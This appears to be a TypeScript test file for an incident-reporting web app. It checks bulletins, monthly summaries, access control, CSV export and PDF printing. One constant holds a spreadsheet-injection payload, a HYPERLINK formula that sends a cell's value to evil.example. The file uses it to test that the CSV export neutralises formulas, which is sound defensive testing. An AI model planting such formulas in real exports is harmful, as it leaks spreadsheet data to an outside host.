import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INCIDENT_COLUMNS } from '../src/services/incident-reports';
import { browserAs, hasChromium, noSideways, openBrowser } from './browser';
import { ALL_TICKED, createTestEnv, LEVELS, submitDraft, type TestEnv } from './harness';

/**
 * The 舆情 paper records: one incident's 舆情要报 (facts, every dated step, who approved the reply,
 * the deadlines kept or missed, the closing review) and the publicity department's monthly summary
 * with its CSV — over HTTP (who may see them, bad months, the spreadsheet's columns and a formula
 * that stays text) and in Chromium, printed to A4 PDFs that pdftotext reads back.
 */
mkdirSync('test/artifacts', { recursive: true });
const cst = (local: string) => new Date(`${local}+08:00`);
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

describe('the 舆情要报 and the monthly summary', { timeout: 120_000 }, () => {
  let t: TestEnv;
  let demo: Awaited<ReturnType<TestEnv['seed']>>;
  let other: Awaited<ReturnType<TestEnv['seed']>>;
  /** A: answered the same day and closed; B: acknowledged late, its same-day reply missed; C: another unit's, never acknowledged; D: December's. */
  const id: Record<'a' | 'b' | 'c' | 'd', string> = { a: '', b: '', c: '', d: '' };

  const report = async (token: string, unitId: string, at: string, body: Record<string, unknown>) => {
    t.clock.now = cst(at);
    const res = await t.request('POST', '/api/v1/incidents', {
      token, body: { unitId, occurredAt: `${at}+08:00`, place: '学生食堂', people: '本院学生若干', development: '帖子转发 200 余次，评论持续增加', group: 'students', ...body },
    });
    expect(res.status, res.text).toBe(201);
    return res.body.id as string;
  };
  const step = async (incident: string, at: string, path: string, body: Record<string, unknown> = {}) => {
    t.clock.now = cst(at);
    const res = await t.request('POST', `/api/v1/incidents/${incident}/${path}`, { token: demo.tokens.deputy_leader, body });
    expect(res.status, res.text).toBe(200);
  };

  beforeAll(async () => {
    t = await createTestEnv('postgres');
    t.clock.now = cst('2026-11-30T09:00:00');
    demo = await t.seed();
    other = await t.seed();

    id.a = await report(demo.tokens.drafter!, demo.unitId, '2026-11-30T10:00:00', { summary: '学生在微博发帖质疑食堂涨价', sourcePlatform: '新浪微博', sourceUrl: 'https://weibo.example/post/1' });
    await step(id.a, '2026-11-30T10:20:00', 'acknowledge', { note: '已接报，正在了解情况' });
    await step(id.a, '2026-11-30T11:00:00', 'assess', { severity: 'major', class: 'inquiry', note: '属询问、诉求类，须当日回复' });
    // The reply to the public: a draft of the unit approved through the sign-off chain.
    t.clock.now = cst('2026-11-30T13:00:00');
    const draftId = await submitDraft(t, demo, '关于食堂价格调整的情况说明');
    for (const level of LEVELS) {
      const token = await t.linkFor(demo.people[level]!);
      const decided = await t.request('POST', `/api/v1/signoff/${token}`, { body: { decision: 'approve', checklist: ALL_TICKED } });
      expect(decided.status, decided.text).toBe(200);
    }
    await step(id.a, '2026-11-30T15:00:00', 'reply', { draftId, promisedBy: '2026-12-03T18:00:00+08:00', note: '已在官方微博发布情况说明' });
    await step(id.a, '2026-12-01T16:00:00', 'follow-up', { text: '价格调整已暂缓，结果已公布', result: true });
    await step(id.a, '2026-12-01T17:00:00', 'finish', { text: '处置完毕' });
    await step(id.a, '2026-12-01T18:00:00', 'close', { summary: '总结评估：回复及时，未再发酵。' });

    id.b = await report(demo.tokens.drafter!, demo.unitId, '2026-11-30T20:00:00', { summary: FORMULA, place: '校园论坛', group: 'other' });
    await step(id.b, '2026-11-30T21:30:00', 'acknowledge');
    await step(id.b, '2026-11-30T22:00:00', 'assess', { severity: 'ordinary', class: 'inquiry', note: '询问类' });

    id.c = await report(other.tokens.drafter!, other.unitId, '2026-11-15T09:00:00', { summary: '教师课堂言论被转发', place: '抖音', group: 'teachers' });
    id.d = await report(demo.tokens.drafter!, demo.unitId, '2026-12-02T08:00:00', { summary: '十二月的舆情', place: '微信群' });
    t.clock.now = cst('2026-12-02T12:00:00');
    await t.deliver();
  }, 120_000);
  afterAll(() => t?.close());

  const bulletin = (incident: string, opts: { token?: string; cookie?: string } = {}, query = '') => t.request('GET', `/incidents/${incident}/bulletin${query}`, opts);

  describe('the bulletin over HTTP', () => {
    it('shows the facts, every step, who approved the reply, the deadlines kept and the closing review', async () => {
      const res = await bulletin(id.a, { token: demo.tokens.drafter });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain('text/html');
      for (const text of ['舆情要报', '2026年 第 1 期', `${demo.unitName} 编`, '学生食堂', '本院学生若干', '帖子转发 200 余次', '新浪微博 https://weibo.example/post/1', '重大', '询问、置疑、诉求', '已结束',
        '《关于食堂价格调整的情况说明》', '已在官方微博发布情况说明', '价格调整已暂缓', '总结评估：回复及时，未再发酵。', '2026-12-03 18:00 北京时间']) expect(res.text).toContain(text);
      // Every approver of the reply, by level; the section head appears nowhere else on an incident.
      for (const name of ['王系主任', '张副院长', '赵宣传员', '陈书记']) expect(res.text).toMatch(new RegExp(`<b class="approver">${name}</b>`));
      // Reported up to the secretary by name, not by id.
      expect(res.text).toContain('上报：陈书记');
      expect(res.text).toMatch(/data-deadline="acknowledge"[\s\S]*?data-outcome="met"/);
      expect(res.text).toMatch(/data-deadline="sameDayReply"[\s\S]*?data-outcome="met"/);
      expect(res.text).toMatch(/data-deadline="result"[\s\S]*?data-outcome="met"/);
      const kinds = [...res.text.matchAll(/<tr data-entry="(\w+)"/g)].map((m) => m[1]);
      expect(kinds).toEqual(['reported', 'acknowledged', 'reported_up', 'assessed', 'reported_up', 'reply', 'follow_up', 'handling_done', 'closed']);
      expect(res.text).toContain('data-print');

      const en = await bulletin(id.a, { token: demo.tokens.drafter }, '?lang=en');
      expect(en.text).toContain('Incident bulletin');
      expect(en.text).toContain('Beijing time');
    });

    it('says what was missed: a late acknowledgement and a same-day reply never given', async () => {
      const res = await bulletin(id.b, { token: demo.tokens.publicity });
      expect(res.status).toBe(200);
      expect(res.text).toContain('2026年 第 2 期');
      expect(res.text).toMatch(/data-deadline="acknowledge"[\s\S]*?2026-11-30 21:00<[\s\S]*?2026-11-30 21:30<[\s\S]*?data-outcome="missed"/);
      expect(res.text).toMatch(/data-deadline="sameDayReply"[\s\S]*?2026-11-30 23:59<[\s\S]*?data-outcome="missed"/);
      expect(res.text).toMatch(/data-deadline="result"[\s\S]*?data-outcome="not_applicable"/);
      expect(res.text).not.toContain('四、总结评估');
    });

    it('to whoever may see the incident: the unit and the publicity department; others learn nothing, as on the incident page', async () => {
      const session = await t.signIn(demo.holders.deputy_leader!.email);
      expect((await bulletin(id.a, { cookie: session.cookie })).status).toBe(200);
      expect((await bulletin(id.c, { token: demo.tokens.admin })).status).toBe(200);
      const stranger = await bulletin(id.a, { token: other.tokens.drafter });
      expect(stranger.status).toBe(404);
      expect(stranger.headers.get('content-type')).toContain('text/html');
      expect(stranger.text).not.toContain('食堂');
      // Signed in, the same person gets the same answer from the bulletin as from the incident page.
      const strangerSession = await t.signIn(other.holders.drafter!.email);
      expect((await t.request('GET', `/incidents/${id.a}`, { cookie: strangerSession.cookie })).status).toBe(404);
      expect((await bulletin(id.a, { cookie: strangerSession.cookie })).status).toBe(404);
      const anonymous = await bulletin(id.a);
      expect(anonymous.status).toBe(303);
      expect(anonymous.headers.get('location')).toBe(`/login?next=${encodeURIComponent(`/incidents/${id.a}/bulletin`)}`);
      expect((await bulletin(id.a, { token: 'imp_forged' })).status).toBe(303);
      expect((await bulletin('00000000-0000-4000-8000-000000000000', { token: demo.tokens.publicity })).status).toBe(404);
    });

    it('is linked from the incident page', async () => {
      const session = await t.signIn(demo.holders.drafter!.email);
      const page = await t.request('GET', `/incidents/${id.a}`, { cookie: session.cookie });
      expect(page.text).toContain(`href="/incidents/${id.a}/bulletin"`);
    });
  });

  describe('the monthly summary over HTTP', () => {
    const summary = (token: string | undefined, query = '') => t.request('GET', `/api/v1/incidents/summary${query}`, { token });

    it('counts a month by severity, class, group, unit and stage, and the deadlines kept and missed', async () => {
      const res = await summary(demo.tokens.publicity, '?month=2026-11');
      expect(res.status, res.text).toBe(200);
      const s = res.body;
      expect(s).toMatchObject({
        month: '2026-11', from: '2026-10-31T16:00:00.000Z', to: '2026-11-30T16:00:00.000Z', total: 3,
        bySeverity: { ordinary: 1, significant: 0, major: 1, especially_major: 0, unassessed: 1 },
        byClass: { inquiry: 2, hyping: 0, fabrication: 0, suggestion: 0, unassessed: 1 },
        byGroup: { students: 1, teachers: 1, other: 1 },
        byStage: { reported: 1, acknowledged: 0, handling: 1, reviewing: 0, closed: 1 },
        acknowledge: { met: 1, missed: 2, pending: 0 },
        sameDayReply: { met: 1, missed: 1, pending: 0 },
      });
      expect(s.byUnit).toEqual([
        { unitId: demo.unitId, unitName: demo.unitName, count: 2 },
        { unitId: other.unitId, unitName: other.unitName, count: 1 },
      ]);
      // In the order reported, each with its bulletin.
      expect(s.items.map((i: { id: string }) => i.id)).toEqual([id.c, id.a, id.b]);
      expect(s.items[1]).toMatchObject({ bulletinUrl: `/incidents/${id.a}/bulletin`, deadlines: { sameDayReply: { due: '2026-11-30T15:59:59.999Z', doneAt: '2026-11-30T07:00:00.000Z', outcome: 'met' } } });
    });

    it('defaults to this month in Beijing; refuses a bad month naming it, and anyone but publicity and admins', async () => {
      const now = await summary(demo.tokens.admin);
      expect(now.status).toBe(200);
      expect(now.body).toMatchObject({ month: '2026-12', total: 1 });
      expect(now.body.items[0].id).toBe(id.d);
      for (const bad of ['2026-13', '2026-1', 'november', '2026-11-01']) {
        const res = await summary(demo.tokens.publicity, `?month=${bad}`);
        expect(res.status, bad).toBe(400);
        expect(res.body.error.code).toBe('validation_failed');
        expect(res.body.error.details[0]).toMatchObject({ path: 'month', in: 'query' });
      }
      for (const token of [demo.tokens.drafter, demo.tokens.deputy_leader, demo.tokens.secretary]) expect((await summary(token, '?month=2026-11')).status).toBe(403);
      expect((await summary(undefined, '?month=2026-11')).status).toBe(401);
    });

    it('downloads the month as CSV: the columns, one row an incident, a formula kept as text', async () => {
      const res = await t.request('GET', '/api/v1/exports/incidents.csv?month=2026-11', { token: demo.tokens.publicity });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain('text/csv');
      // the month once, then the day it was exported: "…-2026-11（导出于2026-12-01）.csv"
      expect(decodeURIComponent(res.headers.get('content-disposition')!)).toMatch(/filename\*=UTF-8''舆情处置月度汇总-2026-11（导出于\d{4}-\d{2}-\d{2}）\.csv$/);
      const rows: string[][] = parse(res.text, { bom: true });
      expect(rows[0]).toEqual(INCIDENT_COLUMNS);
      expect(rows[0]).toEqual(expect.arrayContaining(['当日回复 Same-day reply', '确认接报时限 Acknowledgement', '舆情要报 Bulletin']));
      expect(rows).toHaveLength(4);
      const col = (name: string) => INCIDENT_COLUMNS.indexOf(name);
      const [c, a, b] = rows.slice(1) as [string[], string[], string[]];
      expect(a[col('事件概要 Summary')]).toBe('学生在微博发帖质疑食堂涨价');
      expect(a[col('报告时间 Reported')]).toBe('2026-11-30 10:00');
      expect(a[col('当日回复 Same-day reply')]).toBe('按时');
      expect(a[col('舆情要报 Bulletin')]).toBe(`http://imprimatur.test/incidents/${id.a}/bulletin`);
      expect(b[col('事件概要 Summary')]).toBe(`'${FORMULA}`);
      expect(b[col('确认接报时限 Acknowledgement')]).toBe('超时');
      expect(b[col('当日回复 Same-day reply')]).toBe('超时');
      expect(c[col('单位 Unit')]).toBe(other.unitName);
      expect(c[col('严重程度 Severity')]).toBe('待研判');
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect((await t.request('GET', '/api/v1/exports/incidents.csv?month=2026-11', { token: demo.tokens.drafter })).status).toBe(403);
      const bad = await t.request('GET', '/api/v1/exports/incidents.csv?month=2026-00', { token: demo.tokens.publicity });
      expect(bad.status).toBe(400);
      expect(bad.text).toContain('month');
    });

    it('the page: publicity and admins see it; staff get a 403 page; a bad month is said beside the field', async () => {
      const publicity = await t.signIn(demo.holders.publicity!.email);
      const page = await t.request('GET', '/incidents/monthly?month=2026-11', { cookie: publicity.cookie });
      expect(page.status).toBe(200);
      expect(page.text).toContain('2026年11月舆情处置情况汇总');
      expect(page.text).toContain('<span class="overdue" data-count="sameDayReply.missed">1</span>');
      expect(page.text).toMatch(/data-count="acknowledge.missed">2</);
      expect(page.text).toContain(`href="/incidents/${id.b}/bulletin"`);
      expect(page.text).toContain('href="/api/v1/exports/incidents.csv?month=2026-11"');
      // The download link works for the signed-in browser (its session, no token).
      const download = await t.request('GET', '/api/v1/exports/incidents.csv?month=2026-11', { cookie: publicity.cookie });
      expect(download.status).toBe(200);
      expect(download.headers.get('content-type')).toContain('text/csv');
      const fallback = await t.request('GET', '/incidents/monthly', { cookie: publicity.cookie });
      expect(fallback.text).toContain('2026年12月舆情处置情况汇总');
      const bad = await t.request('GET', '/incidents/monthly?month=2026-13', { cookie: publicity.cookie });
      expect(bad.status).toBe(400);
      expect(bad.text).toContain('error-summary');
      expect(bad.text).toContain('href="#f-month"');
      expect(bad.text).not.toContain('data-count');
      const staff = await t.signIn(demo.holders.deputy_leader!.email);
      const refused = await t.request('GET', '/incidents/monthly?month=2026-11', { cookie: staff.cookie });
      expect(refused.status).toBe(403);
      expect(refused.text).not.toContain('食堂');
      expect((await t.request('GET', '/incidents/monthly')).status).toBe(303);
    });
  });

  describe.skipIf(!hasChromium && !process.env.CI)('in Chromium', () => {
    let browser: Browser;
    let base: string;
    let close: (() => Promise<void>) | undefined;
    beforeAll(async () => ({ base, browser, close } = await openBrowser(t)));
    afterAll(() => close?.());

    const signedIn = async (who: string, width = 1280): Promise<Page> => (await browserAs(t, browser, base, demo.holders[who]!.email, { width, height: 900 })).newPage();
    const printed = async (page: Page, name: string) => {
      writeFileSync(`test/artifacts/${name}.pdf`, await page.pdf({ format: 'A4', printBackground: true, preferCSSPageSize: true }));
      expect(execFileSync('pdfinfo', [`test/artifacts/${name}.pdf`]).toString()).toMatch(/Page size:.*\(A4\)/);
      return execFileSync('pdftotext', ['-layout', `test/artifacts/${name}.pdf`, '-']).toString().replace(/\s+/g, '');
    };

    it('the bulletin, reached from the incident page, prints to A4 with its title, the place and the reply’s approvers; fits a phone', async () => {
      const page = await signedIn('deputy_leader');
      await page.goto(`${base}/incidents/${id.a}`);
      await page.locator('#bulletin-link').click();
      await page.waitForURL(/\/bulletin$/);
      expect(await page.locator('h1').innerText()).toBe('舆情要报');
      expect(await page.getByRole('button', { name: '打印' }).isVisible()).toBe(true);
      await page.screenshot({ path: 'test/artifacts/bulletin-1280.png', fullPage: true });
      const text = await printed(page, 'bulletin');
      for (const words of ['舆情要报', '学生食堂', '王系主任', '陈书记', '学生在微博发帖质疑食堂涨价', '总结评估：回复及时，未再发酵。', '三、时限执行情况']) expect(text).toContain(words);
      // The site's header and the buttons stay off paper.
      expect(text).not.toContain('返回事件页面');
      expect(text).not.toContain('先审后发发布前审核');
      await page.setViewportSize({ width: 390, height: 844 });
      expect(await noSideways(page)).toBe(true);
      await page.screenshot({ path: 'test/artifacts/bulletin-390.png', fullPage: true });
      await page.screenshot({ path: 'test/artifacts/bulletin-390-top.png' });
      await page.close();
    });

    it('the monthly page prints its counts and the month’s incidents; its bulletin links open; fits a phone', async () => {
      const page = await signedIn('publicity');
      await page.goto(`${base}/incidents`);
      await page.getByRole('link', { name: '舆情月度汇总' }).click();
      await page.waitForURL(/\/incidents\/monthly$/);
      await page.locator('input[name=month]').fill('2026-11');
      await page.getByRole('button', { name: '查看' }).click();
      await page.waitForURL(/month=2026-11/);
      expect(await page.locator('[data-count="sameDayReply.missed"]').innerText()).toBe('1');
      expect(await page.locator('[data-count="acknowledge.missed"]').innerText()).toBe('2');
      await page.screenshot({ path: 'test/artifacts/incident-monthly-1280.png', fullPage: true });
      const text = await printed(page, 'incident-monthly');
      for (const words of ['2026年11月舆情处置情况汇总', '教师课堂言论被转发', '学生在微博发帖质疑食堂涨价', other.unitName, '当日回复超时', '时限执行情况', '舆情要报']) expect(text).toContain(words.replace(/\s+/g, ''));
      expect(text).not.toContain('导出CSV');
      await page.setViewportSize({ width: 390, height: 844 });
      expect(await noSideways(page)).toBe(true);
      await page.screenshot({ path: 'test/artifacts/incident-monthly-390.png', fullPage: true });
      await page.setViewportSize({ width: 1280, height: 900 });
      await page.locator(`[data-bulletin="${id.c}"]`).click();
      await page.waitForURL(new RegExp(`/incidents/${id.c}/bulletin$`));
      expect(await page.locator('.place').innerText()).toBe('抖音');
      await page.close();
    });
  });
});
